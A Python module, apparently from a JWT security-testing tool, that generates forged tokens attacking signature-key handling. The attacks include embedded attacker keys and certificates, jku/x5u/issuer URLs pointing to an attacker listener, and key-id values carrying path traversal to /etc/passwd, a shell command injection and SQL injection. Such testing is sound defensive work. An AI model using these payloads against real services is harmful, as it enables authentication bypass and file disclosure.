"""Tokens that say themselves what they are to be verified with: a key, a place to get one, or an id that is more than
an id."""

from __future__ import annotations

import base64
import datetime
import hashlib
from collections.abc import Callable, Mapping
from functools import cache
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID

from waybill.tokens import forge
from waybill.tokens.attack import Attack, Falsehood, Materials

OWN: Final = "own"
"""The id of the attacker's key."""

_NO_KEYS_FROM_TOKENS: Final = "RFC 8725, 3.10; RFC 7515, 10.3"

Header = Callable[[Materials], Mapping[str, Any]]


def attacks() -> list[Attack]:
    """All of them, family by family."""
    return [*_own_keys(), *_key_ids()]


def _attack(family: str, id_: str, what: str, why: str, make: Callable[[Materials], str]) -> Attack:
    return Attack(id_, family, Falsehood.KEY, what, why, make)


def _own_keys() -> list[Attack]:
    headers: dict[str, tuple[str, Header]] = {
        "jwk-embedded": (
            "The header has the attacker's public key (jwk).",
            lambda it: {"jwk": it.own.jwk(OWN), "kid": OWN},
        ),
        "jwk-embedded-under-the-genuine-id": (
            "The header has the attacker's public key (jwk) under the id of the issuer's.",
            lambda it: {"jwk": it.own.jwk(str(it.header.get("kid")))},
        ),
        "jku-to-the-attacker": (
            "The header says that the keys are at an address of the attacker (jku, http).",
            lambda it: {"jku": f"http://{it.listener}/jku", "kid": OWN},
        ),
        "jku-to-the-attacker-over-tls": (
            "The header says that the keys are at an address of the attacker (jku, https).",
            lambda it: {"jku": f"https://{it.listener}/jku-tls", "kid": OWN},
        ),
        "jku-with-the-issuer-as-user": (
            "The header's jku begins like the issuer's address and leads to the attacker.",
            lambda it: {"jku": f"{_without_scheme(it)}@{it.listener}/jku-user", "kid": OWN},
        ),
        "jku-to-a-file": (
            "The header says that the keys are in a file of the server (jku).",
            lambda _: {"jku": "file:///etc/passwd", "kid": OWN},
        ),
        "x5u-to-the-attacker": (
            "The header says that the certificate is at an address of the attacker (x5u, http).",
            lambda it: {"x5u": f"http://{it.listener}/x5u", "kid": OWN},
        ),
        "x5u-to-the-attacker-over-tls": (
            "The header says that the certificate is at an address of the attacker (x5u, https).",
            lambda it: {"x5u": f"https://{it.listener}/x5u-tls", "kid": OWN},
        ),
        "x5c-embedded": (
            "The header has a certificate of the attacker (x5c).",
            lambda it: {"x5c": [base64.b64encode(_certificate()).decode()], "kid": OWN},
        ),
        "x5c-embedded-with-thumbprint": (
            "The header has a certificate of the attacker (x5c) and its thumbprint (x5t#S256).",
            lambda it: {
                "x5c": [base64.b64encode(_certificate()).decode()],
                "x5t#S256": forge.encode(hashlib.sha256(_certificate()).digest()),
            },
        ),
    }
    made = [
        _attack(
            "key of its own",
            name,
            what,
            _NO_KEYS_FROM_TOKENS,
            _headed(header),
        )
        for name, (what, header) in headers.items()
    ]
    made += [
        _attack(
            "key of its own",
            "jwk-embedded-secret",
            "The header has a shared secret (jwk of the kind oct) that the token is signed with.",
            _NO_KEYS_FROM_TOKENS,
            lambda it: it.forged(
                forge.shared_secret("HS256", b"secret"),
                {"alg": "HS256", "jwk": {"kty": "oct", "k": forge.encode(b"secret"), "kid": OWN}, "kid": OWN},
            ),
        ),
        _attack(
            "key of its own",
            "issuer-is-the-attacker",
            "The issuer is an address of the attacker, where a careless verifier would look for its keys.",
            "RFC 8725, 3.8; RFC 9068, 4",
            lambda it: it.forged(it.own.es256, {"kid": OWN}, {"iss": f"http://{it.listener}/issuer"}),
        ),
    ]
    return made


def _key_ids() -> list[Attack]:
    ids: dict[str, tuple[str, Callable[[Materials], object]]] = {
        "kid-is-a-url": ("is an address of the attacker", lambda it: f"http://{it.listener}/kid"),
        "kid-is-a-path": ("is the path of a file of the server", lambda _: "../../../../etc/passwd"),
        "kid-is-a-command": ("is a command of a shell", lambda _: "key; cat /dev/null |"),
        "kid-empty": ("is empty", lambda _: ""),
        "kid-null": ("is null", lambda _: None),
        "kid-a-number": ("is a number", lambda _: 0),
        "kid-a-list": ("is a list with the genuine one", lambda it: [it.header.get("kid")]),
        "kid-an-object": ("is an object", lambda it: {"kid": it.header.get("kid")}),
        "kid-with-nul": ("is the genuine one and a NUL", lambda it: f"{it.header.get('kid')}\0"),
        "kid-in-capitals": (
            "is the genuine one in capitals, with a letter more",
            lambda it: f"{it.header.get('kid')}X".upper(),
        ),
        "kid-of-4000-characters": ("has 4000 characters", lambda _: "k" * 4000),
    }
    made = [
        _attack(
            "key id",
            name,
            f"The key id {words}; the key is the attacker's.",
            "RFC 8725, 3.10",
            _named(value),
        )
        for name, (words, value) in ids.items()
    ]
    secrets: dict[str, tuple[str, str, bytes]] = {
        "kid-is-dev-null": ("the path of an empty file", "../../../../../../dev/null", b""),
        "kid-is-sql": (
            "SQL that selects a secret of the attacker",
            "x' UNION SELECT 'secret' -- ",
            b"secret",
        ),
    }
    made += [
        _attack(
            "key id",
            name,
            f"The key id is {words}, and the token is signed with what that gives (HS256).",
            "RFC 8725, 3.10",
            _found(kid, secret),
        )
        for name, (words, kid, secret) in secrets.items()
    ]
    return made


def _headed(header: Header) -> Callable[[Materials], str]:
    return lambda it: it.forged(it.own.es256, header(it))


def _named(kid: Callable[[Materials], object]) -> Callable[[Materials], str]:
    return lambda it: it.forged(it.own.es256, {"kid": kid(it)})


def _found(kid: str, secret: bytes) -> Callable[[Materials], str]:
    return lambda it: it.forged(forge.shared_secret("HS256", secret), {"alg": "HS256", "kid": kid})


def _without_scheme(it: Materials) -> str:
    """The issuer's address in the place where a URL names a user."""
    return str(it.claims.get("iss", "https://issuer")).rstrip("/").replace("https://", "http://", 1)


@cache
def _certificate() -> bytes:
    """A certificate that the attacker made for the own key."""
    key = forge.own_keys().curve
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer")])
    now = datetime.datetime.now(datetime.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(key, hashes.SHA256())
        .public_bytes(serialization.Encoding.DER)
    )
